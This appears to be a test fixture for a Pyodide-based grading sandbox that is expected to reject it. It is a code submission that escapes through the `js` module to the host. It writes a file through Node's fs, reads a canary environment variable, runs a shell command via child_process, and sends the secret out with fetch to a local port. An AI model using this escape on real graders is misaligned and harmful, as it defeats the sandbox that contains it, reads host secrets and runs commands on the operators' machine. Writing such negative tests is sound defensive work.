# The classic escape: Pyodide's `js` module is the host's globalThis unless the sandbox says no.
# Writes a file, reads an env var and runs a command on the grading machine.
# expect: rejected
# message: Your code tried to use `js`, which answers cannot reach
import js

fs = js.process.getBuiltinModule("fs")
fs.writeFileSync("{{CANARY_DIR}}/from-js.txt", "escaped")
secret = js.process.env.DE_TRAINER_CANARY
js.process.getBuiltinModule("child_process").execSync("touch {{CANARY_DIR}}/from-exec.txt")
js.fetch("http://127.0.0.1:9/" + str(secret))


def parse_event(event_json):
    return {"secret": str(secret)}
